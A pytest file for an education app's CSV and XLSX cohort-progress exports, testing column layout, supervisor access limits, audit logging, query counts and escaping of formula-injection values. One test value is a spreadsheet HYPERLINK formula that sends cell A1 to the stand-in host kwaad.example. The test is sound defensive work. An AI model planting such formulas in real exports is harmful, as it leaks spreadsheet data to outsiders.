"""CSV and XLSX exports of the cohort overview: one row per student with the statuses voortgang reports,
formula cells neutralised, need-to-know, an audit record, and a fixed number of queries."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from sqlalchemy import select

from app.models import AuditRecord, Rol
from app.voortgang.status import STATUS_LABELS, LeeruitkomstStatus
from tests import factories
from tests.cohortoverzicht.conftest import Cohortdata

API = "/api/v1/cohorten/WA6-OVERZICHT-01/voortgang"
KWAAD = '=HYPERLINK("http://kwaad.example/?x="&A1,"klik")'


def _csv(client, url: str = API + ".csv") -> list[list[str]]:  # noqa: ANN001
    antwoord = client.get(url)
    assert antwoord.status_code == 200, antwoord.text
    assert antwoord.headers["content-type"] == "text/csv; charset=utf-8"
    tekst = antwoord.content.decode("utf-8")
    assert tekst.startswith("\ufeff")  # Excel then reads it as UTF-8
    return list(csv.reader(io.StringIO(tekst.removeprefix("\ufeff")), delimiter=";"))


def _xlsx(client, url: str = API + ".xlsx") -> list[list[object]]:  # noqa: ANN001
    antwoord = client.get(url)
    assert antwoord.status_code == 200, antwoord.text
    assert antwoord.headers["content-type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    werkmap = openpyxl.load_workbook(io.BytesIO(antwoord.content))
    return [list(r) for r in werkmap["Voortgang"].iter_rows(values_only=True)]


@pytest.mark.parametrize("lees", [_csv, _xlsx])
def test_een_regel_per_student_met_de_statussen_van_voortgang(
    client, als, examencommissielid, cohortdata: Cohortdata, lees
) -> None:  # noqa: ANN001
    als(examencommissielid)
    kop, *regels = lees(client)

    lus = [
        f"LU{k}.{n}"
        for k, n in ((1, 1), (1, 2), (2, 1), (2, 2), (2, 3), (3, 1), (3, 2), (4, 1), (4, 2), (5, 1), (5, 2), (5, 3))
    ]
    assert kop == ["studentnummer", "naam", "aangetoond", "totaal", "diplomabaar", *lus]
    assert [r[1] for r in regels] == ["Anna Aangetoond", "Bart Beoordeling", "Cas Concept"]
    for regel, persoon in zip(regels, (cohortdata.anna, cohortdata.bart, cohortdata.cas), strict=True):
        eigen = client.get(f"/api/v1/studenten/{persoon.id}/voortgang").json()
        assert regel[0] == persoon.studentnummer
        assert [str(regel[2]), str(regel[3]), regel[4]] == [str(eigen["aangetoond"]), "12", "nee"]
        verwacht = {lu["code"]: STATUS_LABELS[LeeruitkomstStatus(lu["status"])] for lu in eigen["leeruitkomsten"]}
        assert dict(zip(kop[5:], regel[5:], strict=True)) == verwacht
    assert regels[0][5] == "Aangetoond" and regels[1][6] == "Ter beoordeling"


def test_kopregel_telt_precies_de_leeruitkomsten(client, als, beheerder, cohortdata: Cohortdata) -> None:  # noqa: ANN001
    als(beheerder)
    kop = _csv(client)[0]
    assert len(kop) == 5 + 12 and len(set(kop)) == len(kop)


@pytest.mark.parametrize("naam", [KWAAD, "+31 6 12345678", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"])
def test_formules_worden_geneutraliseerd_in_csv_en_xlsx(
    client, db, als, beheerder, cohortdata: Cohortdata, naam: str
) -> None:  # noqa: ANN001
    cohortdata.cas.naam = naam
    cohortdata.cas.studentnummer = "=1+2"
    db.flush()
    als(beheerder)

    [csv_regel] = [r for r in _csv(client)[1:] if r[1].endswith(naam[1:])]
    assert csv_regel[:2] == ["'=1+2", "'" + naam]

    werkmap = openpyxl.load_workbook(io.BytesIO(client.get(API + ".xlsx").content))
    blad = werkmap["Voortgang"]
    cellen = [rij for rij in blad.iter_rows(min_row=2) if str(rij[1].value).endswith(naam[1:])]
    [(nummer, cel, *_)] = cellen
    # Text, not a formula (XML reads a carriage return back as a newline).
    assert cel.value.replace("\n", "\r") == "'" + naam and cel.data_type == "s"
    assert nummer.value == "'=1+2" and nummer.data_type == "s"


def test_gewone_namen_blijven_zoals_ze_zijn(client, als, beheerder, cohortdata: Cohortdata) -> None:  # noqa: ANN001
    als(beheerder)
    assert "'" not in "".join(r[1] for r in _csv(client)[1:])


def test_bestandsnaam_en_geen_cache(client, als, beheerder, cohortdata: Cohortdata) -> None:  # noqa: ANN001
    als(beheerder)
    for formaat in ("csv", "xlsx"):
        antwoord = client.get(f"{API}.{formaat}")
        schijf = antwoord.headers["content-disposition"]
        assert schijf.startswith('attachment; filename="voortgang-WA6-OVERZICHT-01-')
        assert f'.{formaat}"' in schijf
        assert antwoord.headers["cache-control"] == "private, no-store"


@pytest.mark.parametrize("lees", [_csv, _xlsx])
def test_praktijkbegeleider_exporteert_alleen_de_eigen_studenten(client, als, cohortdata: Cohortdata, lees) -> None:  # noqa: ANN001
    als(cohortdata.begeleider)
    assert [r[1] for r in lees(client)[1:]] == ["Anna Aangetoond", "Bart Beoordeling"]


def test_andere_praktijkbegeleider_exporteert_een_lege_tabel(client, db, als, cohortdata: Cohortdata) -> None:  # noqa: ANN001
    als(factories.create_gebruiker(db, Rol.praktijkbegeleider))
    assert len(_csv(client)) == 1
    assert len(_xlsx(client)) == 1


def test_export_komt_in_de_audittrail(client, db, als, beheerder, cohortdata: Cohortdata) -> None:  # noqa: ANN001
    als(cohortdata.begeleider)
    _csv(client)
    als(beheerder)
    _xlsx(client)

    records = db.scalars(
        select(AuditRecord).where(AuditRecord.actie == "cohortoverzicht_geexporteerd").order_by(AuditRecord.id)
    ).all()
    assert [(r.actor_id, r.onderwerp_type, r.onderwerp_id) for r in records] == [
        (cohortdata.begeleider.id, "cohort", str(cohortdata.cohort.id)),
        (beheerder.id, "cohort", str(cohortdata.cohort.id)),
    ]
    assert '"formaat": "csv"' in records[0].gegevens and '"studenten": 2' in records[0].gegevens
    assert '"formaat": "xlsx"' in records[1].gegevens and '"studenten": 3' in records[1].gegevens
    assert "Cohortoverzicht geëxporteerd" in client.get("/beheer/audit").text


@pytest.mark.parametrize("formaat", ["csv", "xlsx"])
def test_vast_aantal_queries_bij_3_en_200_studenten(
    client, db, als, count_queries, beheerder, cohortdata: Cohortdata, formaat: str
) -> None:  # noqa: ANN001
    als(beheerder)
    with count_queries:
        klein = client.get(f"{API}.{formaat}")
    bij_3 = count_queries.count

    factories.create_veel_studenten(db, 197, cohort=cohortdata.cohort)
    with count_queries:
        groot = client.get(f"{API}.{formaat}")
    assert count_queries.count == bij_3, count_queries.statements
    assert len(groot.content) > len(klein.content)
    if formaat == "csv":
        assert len(_csv(client)) == 1 + 200


def test_de_csv_komt_in_stukken_van_200_studenten(client, db, als, beheerder, cohortdata: Cohortdata) -> None:  # noqa: ANN001
    factories.create_veel_studenten(db, 450, cohort=cohortdata.cohort)
    als(beheerder)
    with client.stream("GET", API + ".csv") as antwoord:
        stukken = list(antwoord.iter_raw())
    regels = b"".join(stukken).decode("utf-8").splitlines()
    assert len(regels) == 1 + 453
    # The header, then one piece per 200 students (the transport may merge pieces, never split a student).
    assert 2 <= len(stukken) <= 4


def test_de_werkmap_houdt_kop_en_naam_in_beeld_en_telt_in_getallen(client, als, examencommissielid, cohortdata) -> None:  # noqa: ANN001
    """The XLSX is written row by row; it is still a workbook a spreadsheet reads as one: frozen at C2, numbers
    as numbers."""
    als(examencommissielid)
    werkmap = openpyxl.load_workbook(io.BytesIO(client.get(API + ".xlsx").content))
    blad = werkmap["Voortgang"]
    assert werkmap.sheetnames == ["Voortgang"]
    assert blad.freeze_panes == "C2"
    assert isinstance(blad["C2"].value, int) and isinstance(blad["D2"].value, int)
    assert blad["A1"].value == "studentnummer"
